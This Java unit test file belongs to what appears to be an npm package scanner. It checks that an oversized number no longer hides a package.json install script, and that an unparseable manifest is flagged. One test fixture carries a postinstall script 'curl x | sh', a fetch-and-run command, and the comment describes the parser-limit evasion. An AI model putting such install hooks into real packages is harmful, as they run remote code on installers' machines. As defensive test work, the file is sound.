package dev.divergence.registry.npm;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.divergence.model.Artifact;
import dev.divergence.model.ArtifactKind;
import dev.divergence.model.RiskFlag;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * Red team round 4 (case9): {@code JSON.parse} reads a 1,200-digit number, Jackson's default limit (1,000) refused
 * the package.json, and its postinstall script and URL dependency went unseen.
 */
class NpmManifestParserLimitsTest {

    private static final Artifact TARBALL = new Artifact("bignum-1.0.0.tgz", "u", ArtifactKind.NPM_TARBALL, 1, Map.of(),
            Optional.empty(), false);

    @Test
    void aLongNumberNoLongerHidesAnInstallScript() {
        String pkg = "{\"name\":\"bignum\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl x | sh\"},"
                + "\"x\": 1." + "0".repeat(1200) + "1, \"y\": 1" + "0".repeat(1200) + "}";
        assertEquals(Set.of(RiskFlag.INSTALL_SCRIPT), new NpmGeneratedFiles().declaredAtInstall(TARBALL,
                "package/package.json", pkg.getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void aPackageJsonThatDoesNotParseCannotBeShownToDeclareNoInstallScript() {
        assertEquals(Set.of(RiskFlag.UNREADABLE_MANIFEST), new NpmGeneratedFiles().declaredAtInstall(TARBALL,
                "package/package.json", "{\"scripts\": {\"postinstall\": \"x\"} ".getBytes(StandardCharsets.UTF_8)));
    }
}
